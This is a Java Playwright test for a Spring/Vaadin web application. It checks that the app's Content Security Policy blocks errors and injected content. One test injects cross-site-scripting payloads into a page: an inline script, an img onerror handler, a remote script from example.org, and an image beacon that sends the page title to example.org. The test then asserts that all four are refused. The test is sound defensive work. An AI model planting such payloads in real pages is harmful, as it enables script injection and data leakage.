package dev.kamae.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.TimeoutError;
import dev.kamae.KamaeTest;
import dev.kamae.RoutesTests;
import dev.kamae.identity.Role;
import dev.kamae.identity.SignedInAs;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.crypto.password.PasswordEncoder;

/** What the policy in the headers lets pages do, in a real browser. */
@KamaeTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PolicyBrowserTests {

    private static final String LOGIN = "policy";
    private static final String PASSWORD = "correct-horse-battery";
    private static final String BUTTONS = ".k-page vaadin-button:visible:not([disabled])";
    private static final String AT_REST =
            "() => Object.values(window.Vaadin?.Flow?.clients ?? {}).every(client => !client.isActive?.())";

    @LocalServerPort
    private int port;

    @Autowired
    private JdbcClient sql;

    @Autowired
    private PasswordEncoder encoder;

    private Chromium chromium;

    @BeforeAll
    void open() {
        chromium = new Chromium();
        SignedInAs.person(sql, LOGIN, Role.values());
        sql.sql("update person set password_hash = :hash, language = null, theme = 'SYSTEM' where login = :login")
                .param("hash", encoder.encode(PASSWORD))
                .param("login", LOGIN)
                .update();
    }

    @AfterAll
    void close() {
        chromium.close();
    }

    @Test
    void everyPageAndWhatItsButtonsOpenKeepToThePolicyAndFailNowhere() {
        assertThat(Chromium.faults(routes(), this::errors)).isEmpty();
    }

    private List<String> errors(Chromium chromium, List<String> routes) {
        var page = chromium.visitor("en-US", false, 1440);
        var errors = new ArrayList<String>();
        page.onPageError(error -> errors.add(page.url() + ": " + error));
        page.onConsoleMessage(message -> {
            if (message.type().equals("error")) {
                errors.add(page.url() + ": " + message.text());
            }
        });
        Chromium.signIn(page, address(), LOGIN, PASSWORD);

        for (var route : routes) {
            open(page, route);
            var pressed = false;
            for (var button : new LinkedHashSet<>(page.locator(BUTTONS).allInnerTexts())) {
                if (pressed) {
                    open(page, route);
                }
                pressed = true;
                press(page.locator(BUTTONS).filter(new Locator.FilterOptions().setHasText(button)));
                page.waitForFunction(AT_REST);
            }
        }
        errors.addAll(chromium.refused());
        return errors;
    }

    /** A page may have put another in its place meanwhile, or what was pressed elsewhere has taken it away. */
    private static void press(Locator button) {
        try {
            button.first().click(new Locator.ClickOptions().setTimeout(5_000));
        } catch (TimeoutError gone) {
            assertThat(button.count()).isZero();
        }
    }

    @Test
    void aScriptThatSomebodyBroughtIntoAPageDoesNotRunAndNothingGoesElsewhere() {
        var page = chromium.visitor("en-US", false, 1440);
        Chromium.signIn(page, address(), LOGIN, PASSWORD);
        open(page, "issues");

        page.evaluate("""
                () => {
                    const script = document.createElement('script');
                    script.textContent = "document.title = 'owned'";
                    document.body.append(script);
                    const image = document.createElement('div');
                    image.innerHTML = "<img src=x onerror=\\"document.title = 'owned'\\">";
                    document.body.append(image);
                    const foreign = document.createElement('script');
                    foreign.src = 'https://example.org/owned.js';
                    document.body.append(foreign);
                    const away = document.createElement('img');
                    away.src = 'https://example.org/?' + document.title;
                    document.body.append(away);
                }
                """);

        page.waitForFunction("() => document.querySelector('img[src=x]').complete");
        assertThat(page.title()).isNotEqualTo("owned");
        assertThat(chromium.refused()).hasSize(4);
    }

    /** The pieces of the screens too, where there is no log to show. */
    private static List<String> routes() {
        return Stream.concat(RoutesTests.addresses().stream(), Stream.of("specimen"))
                .toList();
    }

    private void open(Page page, String route) {
        page.navigate(address() + "/" + route);
        page.locator(".k-page, .k-login").first().waitFor();
        page.waitForFunction(AT_REST);
    }

    private String address() {
        return "http://localhost:" + port;
    }
}
